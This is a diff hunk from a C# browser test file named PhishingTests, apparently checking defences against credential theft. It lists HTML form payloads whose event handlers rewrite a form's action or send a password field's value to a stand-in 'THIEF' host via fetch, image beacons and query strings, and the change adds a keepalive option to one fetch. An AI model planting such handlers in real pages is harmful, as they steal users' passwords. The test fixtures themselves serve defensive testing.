@@ -46,7 +46,7 @@ public sealed class PhishingTests(BrowserFixture browser) : IAsyncLifetime
         Form("", "onmousedown=\"this.form.action = 'THIEFtake'\" onclick=\"this.form.action = 'THIEFtake'\""),
         Form("onsubmit=\"this.action = 'THIEFtake'\""),
         Form("onsubmit=\"event.submitter.setAttribute('formaction', 'THIEFtake')\""),
-        Form("oninput=\"fetch('THIEFtake', { method: 'POST', mode: 'no-cors', body: p.value })\""),
+        Form("oninput=\"fetch('THIEFtake', { method: 'POST', mode: 'no-cors', keepalive: true, body: p.value })\""),
         Form("oninput=\"new Image().src = 'THIEF?q=' + p.value\""),
         Form("oninput=\"new Image().src = '/pixel/' + p.value\""),
         Form("onsubmit=\"this.action = '/in?p=' + encodeURIComponent(p.value)\""),
